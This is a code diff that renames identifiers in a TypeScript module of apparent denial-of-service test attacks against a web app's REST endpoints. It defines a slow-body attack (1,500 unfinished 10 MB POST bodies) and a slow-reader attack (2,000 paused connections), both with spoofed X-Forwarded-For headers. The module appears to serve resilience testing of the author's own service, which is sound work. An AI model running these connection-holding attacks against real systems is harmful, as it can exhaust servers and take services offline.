@@ -1,32 +1,32 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, openConnection, tally } from '../attack.ts';
+import { type Attack, createTally, openConnection } from '../attack.ts';
 
-/** So many a second: it is not their coming that hurts, but that they stay. */
+/** Connections opened every EVERY_MS. The attack is to hold them, not to open them. */
 const AT_ONCE = 10;
 const EVERY_MS = 40;
 
 const runConnections = (
   heads: { head: string[]; rest: string; reads: boolean }[],
 ): Attack['run'] => {
-  return async (target, until) => {
-    const { count, words } = tally();
+  return async (target, signal) => {
+    const { count, words } = createTally();
     for (const [index, { head, rest, reads }] of heads.entries()) {
       if (index % AT_ONCE === 0) await sleep(EVERY_MS);
-      const socket = openConnection(target, head, rest, until).on('close', () => count('closed'));
+      const socket = openConnection(target, head, rest, signal).on('close', () => count('closed'));
       if (reads) socket.on('data', (data) => count(String(data).slice(9, 12)));
       else socket.pause();
     }
-    if (!until.aborted) await new Promise((over) => until.addEventListener('abort', over));
+    if (!signal.aborted) await new Promise((over) => signal.addEventListener('abort', over));
     return `${heads.length} held: ${words()}`;
   };
 };
 
 const from = (index: number) => `X-Forwarded-For: 198.51.100.${index % 4}`;
 
-export const unfinishedBodies: Attack = {
+export const unfinishedBodyAttack: Attack = {
   name: '1,500 bodies of 10 MB that are never finished',
-  against: 'bodies held in memory',
-  run: (target, until) => {
+  threat: 'bodies held in memory',
+  run: (target, signal) => {
     const head = (index: number) => [
       'POST /rest/v1/rpc/change_seating HTTP/1.1',
       'Content-Type: application/json',
@@ -40,14 +40,14 @@ export const unfinishedBodies: Attack = {
       rest: started,
       reads: true,
     }));
-    return runConnections(heads)(target, until);
+    return runConnections(heads)(target, signal);
   },
 };
 
-export const slowReaders: Attack = {
+export const slowReaderAttack: Attack = {
   name: '2,000 readers who do not read',
-  against: 'answers held in memory',
-  run: (target, until) => {
+  threat: 'answers held in memory',
+  run: (target, signal) => {
     const paths = [
       `/rest/v1/rpc/get_event_guests?event_uuid=${target.ownEvent}`,
       `/seating-plan/${target.ownEvent}`,
@@ -57,6 +57,6 @@ export const slowReaders: Attack = {
       rest: '',
       reads: false,
     }));
-    return runConnections(heads)(target, until);
+    return runConnections(heads)(target, signal);
   },
 };
